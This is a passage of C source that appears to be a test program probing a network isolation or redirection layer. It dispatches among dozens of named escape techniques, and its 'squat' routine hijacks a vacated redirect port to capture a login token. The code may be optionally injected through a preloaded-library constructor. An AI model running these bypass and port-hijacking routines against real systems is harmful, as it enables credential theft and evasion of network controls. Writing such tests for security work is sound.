		close(fd);
		close(accept(server, 0, 0));
	}
	return say("flooded");
}

/* Takes over the port that connections are redirected to, once its owner is gone. */
static int squat(void)
{
	struct sockaddr_in6 at = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(port))};
	int fd = socket(AF_INET6, SOCK_STREAM, 0), on = 1;
	char text[512];

	setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof(on));
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (bind(fd, (void *)&at, sizeof(at)) || listen(fd, 16))
		return failed("bind");
	say("ready");
	struct pollfd wait = {.fd = fd, .events = POLLIN};

	if (poll(&wait, 1, WAIT_MS) != 1)
		return say("nobody came");
	ssize_t got = recv(accept(fd, 0, 0), text, sizeof(text), 0);

	return say("stolen: %zd bytes, %s", got, got > 0 && memmem(text, got, token, strlen(token)) ? "a login" : "?");
}

#define WAY(name) {#name, name}
static const struct {
	const char *name;
	int (*run)(void);
} ways[] = {
	WAY(plain), WAY(mptcp), WAY(smc), WAY(fast_open_sendto), WAY(fast_open_connect), WAY(uring), WAY(uring_async),
	WAY(uring_sqpoll), WAY(device), WAY(mark), WAY(source_port), WAY(outlive), WAY(raw), WAY(raw_stray),
	WAY(raw_fragments), WAY(packet), WAY(http_connect), WAY(source_route), WAY(early), WAY(launch), WAY(udp), WAY(vsock), WAY(local), WAY(declare), WAY(give), WAY(take), WAY(keep), WAY(rob),
	WAY(fork_between), WAY(clone_parent), WAY(orphan), WAY(run_as), WAY(from_memory), WAY(named), WAY(deep),
	WAY(sleeper), WAY(new_namespace), WAY(flood), WAY(squat),
	WAY(trickle), WAY(many), WAY(mark_later),
	WAY(fast_open_mptcp), WAY(again), WAY(foreign), WAY(extended), WAY(pinned),
#ifdef __x86_64__
	WAY(traced),
#endif
};

#ifdef PRELOADED
__attribute__((constructor))
#endif
int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	address = argv[2];
	port = argv[3];
	token = argv[4];
	rest = argv + 5;
	rests = argc - 5;
	aim(address, port);
	for (size_t way = 0; way < sizeof(ways) / sizeof(*ways); way++)
		if (!strcmp(ways[way].name, argv[1]))
			return ways[way].run();
	return 2;
}
